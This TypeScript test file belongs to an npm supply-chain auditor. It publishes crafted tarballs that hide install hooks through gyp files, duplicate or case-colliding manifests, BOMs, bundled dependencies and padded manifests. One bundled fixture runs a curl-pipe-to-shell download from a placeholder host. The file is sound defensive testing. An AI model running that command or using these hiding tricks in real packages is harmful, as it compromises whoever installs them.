import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { audit } from "../src/audit.js";
import type { Finding } from "../src/model.js";
import { createTarballCache } from "../src/tarball/cache.js";
import { type PublishedVersion, sriOf, startTestRegistry, type TestRegistry } from "./registry-server.js";
import { runCli } from "./run-cli.js";
import { buildRawTarball, buildTarball } from "./tarball-fixture.js";
import { tempDir } from "./temp-dir.js";

/*
 * Install hooks npm runs that a hijacked release can hide from a reader of `scripts` in the first package.json:
 * each tarball below is published on a local registry and pinned by a lockfile that does not flag
 * hasInstallScript (a lockfile written before the hijack, or edited), so only the tarball can tell.
 */

const OLD = new Date(Date.now() - 90 * 86_400_000);
const pkg = (name: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version: "1.0.0", ...extra });
const POSTINSTALL = { scripts: { postinstall: "node setup.js" } };

let registry: TestRegistry;
const published: PublishedVersion[] = [];

async function publish(name: string, tarball: Uint8Array | Promise<Uint8Array>): Promise<void> {
  published.push({ name, version: "1.0.0", tarball: await tarball, publishedAt: OLD, publisher: "alice" });
}

before(async () => {
  // npm (@npmcli/package-json) runs `node-gyp rebuild` when any *.gyp sits at the root and no install/preinstall is set.
  await publish("gyp-only", buildTarball({ "package.json": pkg("gyp-only"), "binding.gyp": "{ 'targets': [] }", "index.js": "" }));
  await publish("gyp-other-name", buildTarball({ "package.json": pkg("gyp-other-name"), "addon.gyp": "{}" }));
  await publish("gyp-off", buildTarball({ "package.json": pkg("gyp-off", { gypfile: false }), "binding.gyp": "{}" }));
  // npm's JSON parser strips a byte-order mark; JSON.parse throws on it.
  await publish("bom-manifest", buildTarball({ "package.json": `\uFEFF${pkg("bom-manifest", POSTINSTALL)}`, "setup.js": "" }));
  // Unpacking writes entries in turn: the second package.json is the one on disk.
  await publish(
    "two-manifests",
    buildRawTarball([
      { path: "package/package.json", text: pkg("two-manifests") },
      { path: "package/package.json", text: pkg("two-manifests", POSTINSTALL) },
    ]),
  );
  // macOS and Windows write PACKAGE.JSON over package.json; Linux keeps package.json.
  await publish(
    "case-manifests",
    buildRawTarball([
      { path: "package/package.json", text: pkg("case-manifests") },
      { path: "package/PACKAGE.JSON", text: pkg("case-manifests", POSTINSTALL) },
    ]),
  );
  // node-tar resolves `package/./package.json` to package.json.
  await publish("dot-path", buildRawTarball([{ path: "package/./package.json", text: pkg("dot-path", POSTINSTALL) }]));
  // Typeflag 7 (contiguous file) is unpacked as a regular file.
  await publish(
    "contiguous",
    buildRawTarball([{ path: "package/package.json", text: pkg("contiguous", POSTINSTALL), type: "ContiguousFile" }]),
  );
  // npm rebuilds bundled dependencies from the unpacked files and runs their hooks.
  await publish(
    "bundler",
    buildTarball({
      "package.json": pkg("bundler", { bundleDependencies: ["helper"] }),
      "node_modules/helper/package.json": pkg("helper", POSTINSTALL),
      "node_modules/helper/setup.js": "require('child_process').execSync('curl -s https://get.example.invalid/x | sh');\n",
    }),
  );
  // The registry serves whatever manifest the publisher sent, so the tarball's package.json can be padded at will.
  const padding = (mb: number) => ({ description: "x".repeat(mb * 1024 * 1024) });
  await publish(
    "padded-manifest",
    buildRawTarball([{ path: "package/package.json", text: pkg("padded-manifest", { ...padding(4), ...POSTINSTALL }) }]),
  );
  await publish(
    "huge-manifest",
    buildRawTarball([{ path: "package/package.json", text: pkg("huge-manifest", { ...padding(17), ...POSTINSTALL }) }]),
  );
  // A real npm name that is also a key of every object's prototype.
  await publish("constructor", buildTarball({ "package.json": pkg("constructor", POSTINSTALL), "setup.js": "" }));
  registry = await startTestRegistry(published);
});

after(async () => {
  await registry.close();
});

/** A v3 lockfile pinning `names` by integrity, none flagged hasInstallScript; `bundler` with its bundled entry. */
function lockfile(names: readonly string[]): string {
  const packages: Record<string, unknown> = { "": { name: "app", version: "1.0.0" } };
  for (const name of names) {
    const found = published.find((p) => p.name === name);
    assert.ok(found, name);
    packages[`node_modules/${name}`] = { version: "1.0.0", integrity: sriOf(found.tarball) };
    if (name === "bundler") packages["node_modules/bundler/node_modules/helper"] = { version: "1.0.0", inBundle: true };
  }
  return `${JSON.stringify({ name: "app", version: "1.0.0", lockfileVersion: 3, requires: true, packages }, null, 2)}\n`;
}

async function findingsFor(names: readonly string[]): Promise<readonly Finding[]> {
  const report = await audit({
    dir: tempDir({ "package-lock.json": lockfile(names) }),
    registry: registry.url,
    cache: createTarballCache(tempDir()),
    metadata: false,
    home: tempDir(),
    env: {},
  });
  assert.deepEqual(report.tarballs, { attempted: names.length, analyzed: names.length });
  return report.findings;
}

const scriptFindings = (findings: readonly Finding[]) =>
  findings
    .filter((f) => f.checkId === "install-script")
    .map((f) => `${f.packageName} ${f.severity}`)
    .sort();

test("a *.gyp file at the root is an install hook (node-gyp rebuild) unless gypfile is false", async () => {
  const findings = await findingsFor(["gyp-only", "gyp-other-name", "gyp-off"]);
  assert.deepEqual(scriptFindings(findings), ["gyp-only medium", "gyp-other-name medium"]);
  assert.match(findings.find((f) => f.packageName === "gyp-only")?.message ?? "", /node-gyp rebuild \(implicit: binding\.gyp\)/);
});

test("the package.json npm installs is read: BOM, last of two copies, ./ path, contiguous-file entry", async () => {
  const names = ["bom-manifest", "two-manifests", "dot-path", "contiguous"];
  const findings = await findingsFor(names);
  assert.deepEqual(scriptFindings(findings), names.map((n) => `${n} medium`).sort());
  for (const f of findings.filter((f) => f.checkId === "install-script")) assert.match(f.message, /postinstall: "node setup\.js"/);
});

test("package.json copies that differ, by order or by case, are a high finding whichever one the audit reads", async () => {
  const findings = await findingsFor(["two-manifests", "case-manifests"]);
  const code = findings.filter((f) => f.checkId === "malicious-code");
  assert.deepEqual(code.map((f) => `${f.packageName} ${f.severity}`).sort(), ["case-manifests high", "two-manifests high"]);
  for (const f of code) assert.match(f.message, /package\.json copies that differ/);
  assert.match(code.find((f) => f.packageName === "case-manifests")?.message ?? "", /package\.json, PACKAGE\.JSON/);
});

test("a bundled dependency's install hook is reported on its parent, and its script is read as install-time code", async () => {
  const findings = await findingsFor(["bundler"]);
  const script = findings.find((f) => f.checkId === "install-script");
  assert.equal(script?.packageName, "bundler");
  assert.equal(script?.severity, "medium");
  assert.match(script?.message ?? "", /node_modules\/helper postinstall: "node setup\.js"/);
  // The download piped into a shell only counts when it runs at install: the bundled folder's setup.js does.
  const code = findings.find((f) => f.checkId === "malicious-code");
  assert.equal(code?.severity, "high", JSON.stringify(findings));
  assert.match(code?.message ?? "", /pipes a download into a shell/);
});

test("a package.json padded past the per-file read cap is read whole; one too big to read is reported, not clean", async () => {
  const findings = await findingsFor(["padded-manifest", "huge-manifest"]);
  assert.deepEqual(scriptFindings(findings), ["padded-manifest medium"]);
  const partly = findings.filter((f) => f.checkId === "tarball-partly-analyzed");
  assert.deepEqual(
    partly.map((f) => `${f.packageName} ${f.severity}`),
    ["huge-manifest medium"],
  );
  assert.match(partly[0]?.message ?? "", /package\.json over 16 MB could not be read whole, so its install scripts are unknown/);
});

test('a package named "constructor" is not taken as allowed by config', async () => {
  const findings = await findingsFor(["constructor"]);
  assert.deepEqual(scriptFindings(findings), ["constructor medium"]);
});

test("the CLI gates on a hook only the tarball shows, and SARIF names it", async () => {
  const dir = tempDir({ "package-lock.json": lockfile(["gyp-only"]) });
  const home = tempDir();
  const result = await runCli(
    [dir, "--registry", registry.url, "--no-metadata", "--cache-dir", tempDir(), "--fail-on", "medium", "--sarif"],
    { HOME: home },
  );
  assert.equal(result.code, 1, result.stderr);
  const sarif = JSON.parse(result.stdout) as { runs: Array<{ results: Array<{ ruleId: string; message: { text: string } }> }> };
  const results = sarif.runs[0]?.results ?? [];
  assert.ok(
    results.some((r) => r.ruleId === "install-script/medium" && /node-gyp rebuild/.test(r.message.text)),
    JSON.stringify(results),
  );
});
